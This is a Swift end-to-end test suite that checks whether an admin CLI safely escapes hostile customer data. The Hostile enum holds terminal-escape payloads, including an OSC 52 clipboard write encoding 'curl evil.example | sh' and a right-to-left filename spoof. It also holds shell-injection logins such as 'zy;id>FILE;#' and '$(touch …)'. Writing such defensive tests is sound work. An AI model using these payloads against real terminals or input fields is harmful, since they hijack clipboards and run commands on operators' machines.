import Foundation
import Testing

/// What a hostile portal, RGK file or argv brings, in one place: the attacks of issue 14.
enum Hostile {
    /// OSC 52: sets the terminal's clipboard (here to "curl evil.example | sh").
    static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
    /// OSC 0: sets the window title.
    static let title = "\u{1B}]0;pwned\u{07}"
    /// CSI 2J: clears the screen.
    static let clearScreen = "\u{1B}[2J"
    /// RIGHT-TO-LEFT OVERRIDE: "Петров‮exe.txt" reads as "Петровtxt.exe".
    static let rightToLeft = "\u{202E}"
    /// A name that tries all of it, with a CR that would draw over the line and a CRLF that would split a row.
    static let name = "Иван\(clipboard)\(title)\(clearScreen)\u{9B}7m\rФАЛЬШИВАЯ СТРОКА\r\nПетров\(rightToLeft)exe.txt"
    /// Bytes that must never reach a terminal as they are: ESC ], BEL, U+202E, the C1 CSI (U+009B).
    static let forbidden: [[UInt8]] = [[0x1B, 0x5D], [0x07], Array("\u{202E}".utf8), [0xC2, 0x9B]]

    /// A portal login that is shell syntax once inserted unquoted: `id` writes to `marker`.
    static func shellLogin(_ marker: String) -> String { "zy;id>\(marker);#@m.ru" }
    /// Logins of every shape a shell could trip on.
    static let logins = ["zz$(touch pwned1)@m.ru", "zz`touch pwned2`@m.ru", "zz'quote@m.ru", "zz\"dq@m.ru",
                         "zz space@m.ru", "zz\nnewline@m.ru", "zz|pipe@m.ru", "--zz@m.ru"]

    /// A value as SQL, whatever it holds: no quoting in the test's own SQL to get wrong.
    static func sql(_ text: String) -> String {
        "CAST(X'" + text.utf8.map { String(format: "%02X", $0) }.joined() + "' AS TEXT)"
    }

    /// The occurrences in `bytes` of anything a terminal would act on, for a failure message.
    static func leaks(_ bytes: [UInt8]) -> [String] {
        forbidden.filter { needle in
            bytes.indices.contains { i in i + needle.count <= bytes.count && Array(bytes[i..<i + needle.count]) == needle }
        }.map { $0.map { String(format: "%02X", $0) }.joined(separator: " ") }
    }
}

extension E2E {
    /// The portal's writes, as a hostile customer makes them: a user, a PIN request and a ticket
    /// whose every text field carries `Hostile.name`.
    func hostilePortalRecords() {
        let name = Hostile.sql(Hostile.name)
        let r = E2E.exec("/usr/bin/sqlite3", [db, """
            INSERT INTO portal_user (login, login_kind, full_name, email, status, registered_at, updated_at, blocked_reason)
            VALUES ('evil@m.ru', 'email', \(name), 'evil@m.ru', 'blocked', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z', \(name));
            INSERT INTO pin_request (account_id, full_name, email, status, created_at)
            VALUES ((SELECT min(id) FROM account), \(name), 'evil@m.ru', 'open', '2000-01-01T10:00:00Z');
            INSERT INTO ticket (channel, topic, status, sender_name, sender_email, created_at, updated_at, last_customer_at)
            VALUES ('support', 'other', 'new', \(name), 'evil@m.ru', '2000-01-01T10:00:00Z', '2000-01-01T10:00:00Z', '2000-01-01T10:00:00Z');
            INSERT INTO ticket_message (ticket_id, at, author_kind, body)
            VALUES (last_insert_rowid(), '2000-01-01T10:00:00Z', 'customer', \(name));
            """])
        precondition(r.status == 0, "\(r)")
    }
}

/// Issue 14: each row of its table of attacks, made exactly as the attacker made it.
@Suite struct HostileInputTests {
    // MARK: row 2 — customer text on the operator's terminal

    @Test func customerTextNeverReachesTheTerminalRaw() throws {
        let t = E2E()
        t.demo()
        t.hostilePortalRecords()
        let ticket = t.sql("SELECT id FROM ticket WHERE sender_email = 'evil@m.ru'")
        for args in [["ticket", "show", ticket], ["ticket", "list"], ["user", "list", "--status", "blocked"], ["user", "show", "evil@m.ru"],
                     ["pin", "requests"], ["--lang", "ru", "ticket", "show", ticket]] {
            let r = t.run(args)
            #expect(r.status == 0, "\(args): \(r)")
            let bytes = Array(r.stdout.utf8)
            #expect(Hostile.leaks(bytes).isEmpty, "\(args) let through \(Hostile.leaks(bytes))")
            #expect(!bytes.contains(0x0D), "\(args): a bare CR")
            #expect(r.stdout.contains("\\u001B]52;c;") && r.stdout.contains("\\u202E"), "\(args): shown, escaped:\n\(r.stdout)")
        }
        // a table row stays one row: the whole name on the line of its login
        let users = t.run("user", "list", "--status", "blocked")
        #expect(users.lines.filter { $0.contains("evil@m.ru") && $0.contains("Иван") && $0.contains("Петров") }.count == 1, "\(users.stdout)")
        #expect(!users.lines.contains { $0.hasPrefix("ФАЛЬШИВАЯ") || $0.hasPrefix("Петров") }, "\(users.stdout)")
        // machine formats keep the data exactly, in their own escaping
        let json = t.run("ticket", "show", ticket, "--json").jsonObject
        #expect(json["sender_name"] as? String == Hostile.name)
        let tsv = t.run("user", "list", "--status", "blocked", "--format", "tsv")
        #expect(tsv.lines.filter { $0.contains("evil@m.ru") && $0.contains("\\r\\nПетров") }.count == 1, "TSV escapes CR and LF: \(tsv.stdout)")
        #expect(tsv.stdout.contains(Hostile.clipboard), "TSV keeps the data as it is")
    }

    @Test func theReviewScreenShowsItEscaped() throws {
        let t = E2E()
        t.demo()
        t.hostilePortalRecords()
        let r = t.interactive(["ticket", "review"], [.expect("ticket 1/"), .expect("u001B]52"), .send("q")])
        #expect(r.ok && r.exit == 0, "\(r.description)")
        #expect(Hostile.leaks(r.raw).isEmpty, "the terminal received \(Hostile.leaks(r.raw))")
        let names = t.interactive(["pin", "requests"], [.sleep(0.5)])
        #expect(Hostile.leaks(names.raw).isEmpty && names.transcript.contains("Иван\\u001"), "\(names.description)")
    }

    // MARK: row 1 — completion never runs anything

    @Test func liveCompletionOffersOnlyValuesAShellCanTake() throws {
        let t = E2E()
        t.demo()
        let marker = t.dir + "/PWNED"
        for login in [Hostile.shellLogin(marker)] + Hostile.logins {
            _ = t.sql("INSERT INTO portal_user (login, login_kind, full_name, status, registered_at, updated_at) VALUES (\(Hostile.sql(login)), 'email', \(Hostile.sql(Hostile.name)), 'active', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z')")
        }
        _ = t.sql("INSERT INTO portal_user (login, login_kind, full_name, status, registered_at, updated_at) VALUES ('zzsafe@m.ru', 'email', \(Hostile.sql(Hostile.name)), 'active', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z')")
        let offered = t.run("__complete", "user", "z")
        #expect(offered.lines.map { String($0.split(separator: "\t")[0]) } == ["zzsafe@m.ru"], "\(offered.stdout)")
        #expect(Hostile.leaks(Array(offered.stdout.utf8)).isEmpty && offered.lines.count == 1, "descriptions are one plain line")
    }

    /// The exact attack: a login with `;id>FILE;#` and Tab, then Enter, in each real shell at a terminal.
    @Test(arguments: ["bash", "zsh", "fish"]) func tabThenEnterRunsNothing(_ name: String) throws {
        let program = try #require(shell(name), "\(name) is needed (.ci/run installs it)")
        let t = E2E()
        t.demo()
        let marker = t.dir + "/PWNED-\(name)"
        _ = t.sql("INSERT INTO portal_user (login, login_kind, status, registered_at, updated_at) VALUES (\(Hostile.sql(Hostile.shellLogin(marker))), 'email', 'active', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z')")
        let load: String, argv: [String]
        switch name {
        case "bash":
            argv = [program, "--norc", "--noprofile", "-i"]
            load = ". '\(repositoryRoot)/completions/mygaz-admin.bash'"
        case "zsh":
            argv = [program, "-f", "-i"]
            load = "fpath=('\(repositoryRoot)/completions' $fpath); autoload -Uz compinit; compinit -u -d '\(t.dir)/zcd'"
        default:
            argv = [program, "--no-config", "-i"]
            load = "source '\(repositoryRoot)/completions/mygaz-admin.fish'"
        }
        let r = E2E.terminal(argv, [
            .sleep(1), .send(load + "\r"), .sleep(1),
            .send("mygaz-admin --db '\(t.db)' user show zy\t"), .sleep(2), .send("\r"), .sleep(2),
            .send("printf 'do%s\\n' ne-2\r"), .expect("done-2"), .send("exit\r"),
        ], env: completionEnvironment.merging(["HOME": t.dir, "PS1": "$ "]) { $1 }, cwd: t.dir)
        #expect(r.ok, "\(name): \(r.description)")
        #expect(!FileManager.default.fileExists(atPath: marker), "\(name) ran the login's command")
    }

    /// The second guard: even a value that should never come is inserted quoted by bash.
    @Test func bashQuotesEveryLiveValue() throws {
        let bash = try #require(shell("bash"))
        let t = E2E()
        let fakeDir = t.dir + "/bin"
        try FileManager.default.createDirectory(atPath: fakeDir, withIntermediateDirectories: true)
        let values = ["a;touch \(t.dir)/x1", "$(touch \(t.dir)/x2)", "`touch \(t.dir)/x3`", "it's", "two words"]
        let fake = "#!/bin/sh\nprintf '%s\\tdesc\\n' " + values.map { "'" + $0.replacingOccurrences(of: "'", with: "'\\''") + "'" }.joined(separator: " ") + "\n"
        try fake.write(toFile: fakeDir + "/mygaz-admin", atomically: true, encoding: .utf8)
        _ = E2E.sh("chmod +x '\(fakeDir)/mygaz-admin'")
        let script = """
            . '\(repositoryRoot)/completions/mygaz-admin.bash'
            COMP_WORDS=(mygaz-admin user show ''); COMP_CWORD=3
            _mygaz_admin mygaz-admin '' show
            for w in "${COMPREPLY[@]}"; do eval "printf '%s\\n' $w"; done
            """
        let r = E2E.exec(bash, ["--norc", "-c", script], env: ["PATH": fakeDir + ":/usr/bin:/bin"], cwd: t.dir)
        #expect(r.lines == values.filter { !$0.contains("\n") }, "each value comes back as itself: \(r)")
        for file in ["x1", "x2", "x3"] { #expect(!FileManager.default.fileExists(atPath: t.dir + "/" + file), "\(file) was created") }
    }
}
